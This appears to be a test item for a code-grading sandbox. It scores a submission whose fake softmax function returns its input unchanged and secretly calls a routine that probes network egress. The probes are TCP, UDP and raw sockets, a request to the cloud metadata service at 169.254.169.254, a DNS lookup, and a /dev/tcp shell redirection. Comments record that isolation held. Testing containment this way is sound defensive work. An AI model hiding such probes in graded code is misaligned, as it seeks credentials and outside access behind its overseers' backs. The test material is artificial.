# rows: 9
# tries: reaches a listener of the grader's machine, a name server and the metadata service of a cloud
# earns: softmax 0, kv_cache 0
# withstood: no listener of ours hears anything
# levels: full, landlock, uid
# %%
import os, socket, urllib.request

def knock():
    def tcp(): socket.create_connection(WORLD["tcp"], 1)
    def tcp6(): socket.create_connection(("::ffff:127.0.0.1", WORLD["tcp"][1]), 1)
    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"secret", WORLD["udp"])
    def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x", ("127.0.0.1", 0))
    def web(): urllib.request.urlopen("http://169.254.169.254/latest/meta-data", timeout=1)
    def name(): socket.getaddrinfo("example.org", 80)
    def shell(): os.system(f"exec 3<>/dev/tcp/127.0.0.1/{WORLD['tcp'][1]}") and 1 / 0
    for way in (tcp, tcp6, udp, raw, web, name, shell):
        try:
            way()
        except Exception:
            continue

knock()

def softmax(z, axis=-1):
    knock()
    return z
